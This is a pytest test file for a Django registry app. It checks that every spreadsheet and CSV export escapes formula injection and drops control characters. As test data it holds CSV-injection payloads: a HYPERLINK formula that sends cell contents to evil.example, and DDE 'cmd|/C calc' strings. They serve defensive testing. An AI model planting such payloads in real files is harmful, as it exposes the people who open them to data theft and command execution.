"""Safe exports (core.safe_export, OWASP CSV injection): a unit or person named ``=HYPERLINK(…)`` stays text in
every xlsx and CSV the project writes, control characters are dropped (a ``\\x01`` in a name or a NUL in an id
no longer makes an export a 500). Checked over every export endpoint of the web app and the tax export."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from openpyxl import load_workbook

from sicollect.core import audit
from sicollect.core import safe_export
from sicollect.exchange.taxsync import write_tables
from sicollect.registry.models import Person, Unit

from ..web.helpers import build
from .conftest import refused

pytestmark = pytest.mark.django_db

EVIL_UNIT = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
EVIL_PERSON = "@SUM(1+1)*cmd|' /C calc'!A0"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cells_of(content: bytes, kind: str) -> list[str]:
    if kind == "xlsx":
        book = load_workbook(io.BytesIO(content), read_only=True)
        return [v for ws in book.worksheets for row in ws.iter_rows(values_only=True) for v in row
                if isinstance(v, str)]
    text = content.decode("utf-8-sig")
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def assert_safe(cells: list[str]) -> None:
    bad = [c for c in cells if c.startswith(TRIGGERS) and not re.fullmatch(r"-?[0-9]+", c)  # a number is a number
           or any(ord(ch) < 32 and ch != "\n" for ch in c)]
    assert not bad, bad


@pytest.fixture
def evil() -> dict[str, Any]:
    province = build()
    Unit.objects.filter(code="HL001").update(name=EVIL_UNIT)
    Person.objects.filter(si_code="2201000001").update(full_name="Nguyễn\x01 Thị Lan")
    Person.objects.filter(si_code="2201000002").update(full_name=EVIL_PERSON)
    nul = "\x00" if connection.vendor == "sqlite" else "\x01"  # PostgreSQL text cannot hold a NUL at all
    audit.record("record_payment", "=cmd|' /C calc'!A0", "payment", f"P-{nul}-1", unit_code="HL001")
    return province


def client(user: Any) -> Client:
    c = Client()
    c.force_login(user)
    return c


EXPORTS: list[tuple[str, str, dict[str, str] | None, str]] = [  # (method, url, POST data, kind)
    ("get", "/worklist/?format=xlsx", None, "xlsx"),
    ("post", "/persons/export/", {"fmt": "xlsx", "reason": "đối chiếu danh sách tháng 10"}, "xlsx"),
    ("post", "/persons/export/", {"fmt": "csv", "reason": "đối chiếu danh sách tháng 10"}, "csv"),
    ("get", "/audit.csv", None, "csv"),
    ("get", "/audit.xlsx", None, "xlsx"),
    ("get", "/units/HL001/statement.xlsx?period=2025-10", None, "xlsx"),
    ("get", "/kpi.xlsx?as_of=2025-10-31", None, "xlsx"),
    ("get", "/plans/weekly.xlsx?as_of=2025-10-31", None, "xlsx"),
    ("get", "/arrears/disclosure.xlsx", None, "xlsx"),
]


def test_every_export_endpoint_writes_text_not_formulas(evil: dict[str, Any]) -> None:
    """One province (built once: it closes a month) for all the endpoints."""
    c = client(evil["users"]["prov"])
    for method, url, data, kind in EXPORTS:
        r = c.post(url, data) if method == "post" else c.get(url)
        assert r.status_code == 200, (url, r.status_code, r.content[:300])
        cells = cells_of(r.content, kind)
        assert_safe(cells)
        joined = "\n".join(cells)
        if "worklist" in url:
            assert "'" + EVIL_UNIT in cells  # shown as the text it is
        if "persons" in url:
            assert "Nguyễn Thị Lan" in joined and "'" + EVIL_PERSON in cells
        if "audit" in url:
            assert "P--1" in joined and "'=cmd|' /C calc'!A0" in cells
        refused()


def test_the_tax_export_and_the_helper(tmp_path: Path) -> None:
    rows = [["5700100001", EVIL_UNIT, "-5", "+84", "\tx", "\rx", "a\x00b", -5, 12_000_000, None]]
    for path in (tmp_path / "t.xlsx", tmp_path / "t.csv"):
        (written,) = write_tables(path, {"units": (["tax_code", "name", "a", "b", "c", "d", "e", "n", "m", "z"], rows)})
        cells = cells_of(written.read_bytes(), path.suffix[1:])
        assert_safe(cells)
        assert "'" + EVIL_UNIT in cells and "'-5" in cells and "ab" in cells
    assert safe_export.row(["=1", "ok", -5, None, "x\ny"]) == ["'=1", "ok", -5, None, "x\ny"]
    refused()
